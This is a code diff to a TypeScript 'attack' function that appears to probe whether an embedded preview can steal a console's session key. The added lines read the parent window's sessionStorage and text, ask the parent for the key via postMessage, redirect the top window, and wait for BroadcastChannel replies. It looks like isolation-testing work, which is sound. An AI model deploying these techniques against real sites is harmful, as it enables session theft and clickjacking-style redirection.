@@ -42,6 +42,8 @@ function attack({ api, key }: Target): void {
     return other;
   };
 
+  const isAbove = () => parent !== window || "";
+
   const tries: Record<string, Try> = {
     fetch: () => fetch(people).then(text),
     "fetch with credentials": () => fetch(people, { credentials: "include" }).then(text),
@@ -85,6 +87,20 @@ function attack({ api, key }: Target): void {
       const frame = attached("iframe", { src: `${api}/console` }) as HTMLIFrameElement;
       await event(frame, "load");
       return frame.contentWindow?.sessionStorage.getItem("foyer-console-session");
+    },
+    // In a preview, that is the console.
+    "the key of the window above": () => isAbove() && parent.sessionStorage.getItem("foyer-console-session"),
+    "the document of the window above": () => isAbove() && parent.document.body.textContent,
+    "a message to the window above": async () => {
+      if (!isAbove()) return "";
+      parent.postMessage({ give: "key" }, "*");
+      await event(window, "message");
+      return "answered";
+    },
+    "leading the window above elsewhere": () => {
+      if (!isAbove()) return "";
+      (top as Window).location.href = `${location.origin}/elsewhere`;
+      return "led";
     },
     "a message to a window": async () => {
       (await opened()).postMessage({ give: "key" }, "*");
@@ -142,8 +158,10 @@ function attack({ api, key }: Target): void {
     BroadcastChannel: async () => {
       const channel = new BroadcastChannel("console");
       channel.postMessage("give");
-      await event(channel, "message");
-      return "answered";
+      // Another frame of the same page asks, too.
+      return new Promise((resolve) => {
+        channel.addEventListener("message", ({ data }) => data !== "give" && resolve(data));
+      });
     },
   };
 
